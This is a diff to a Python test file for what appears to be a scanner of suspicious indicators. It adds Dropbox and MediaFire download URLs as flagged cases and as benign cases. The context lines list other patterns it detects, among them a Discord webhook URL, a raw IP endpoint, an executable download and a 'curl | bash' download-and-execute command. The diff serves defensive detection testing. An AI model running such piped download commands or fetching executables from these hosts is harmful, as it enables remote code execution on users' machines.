@@ -60,6 +60,8 @@ def test_matcher_exact_and_prefix() -> None:
         ("https://discord.com/api/webhooks/1187364512093847561/kQ3v_Zr8TnW2yLp6HcX1aMdS9fJ0uBe4", "endpoint.webhook"),
         ("https://abc.oast.fun/p", "endpoint.oob"),
         ("https://pastebin.com/raw/abc", "endpoint.paste"),
+        ("https://dl.dropbox.com/s/a1b2c3/helper.exe?dl=0", "endpoint.paste"),
+        ("https://download1234.mediafire.com/x9y8/tool.zip", "endpoint.paste"),
         ("http://198.51.100.7:8080/x", "endpoint.ip-url"),
         ("https://files.example.invalid/setup.exe", "download.executable"),
         ("curl -s https://x.invalid/i | bash", "shell.download-exec"),
@@ -88,7 +90,8 @@ def test_a_bypassed_policy_alone_is_not_a_hidden_command() -> None:
     "text",
     ["http://127.0.0.1:8000/", "https://pypi.org/simple/", "a plain sentence", "see Startup guide",
      "https://example.org/docs/index.html", "curl -s https://x.invalid/a.json | jq .name",
-     "curl -s https://x.invalid/data | python_filter.txt"],
+     "curl -s https://x.invalid/data | python_filter.txt",
+     "https://www.dropbox.com/s/a1b2c3/vectors.zip?dl=1", "https://www.mediafire.com/file/x/notes"],
 )
 def test_ordinary_strings_have_no_indicators(text: str) -> None:
     assert list(find_indicators(text)) == []
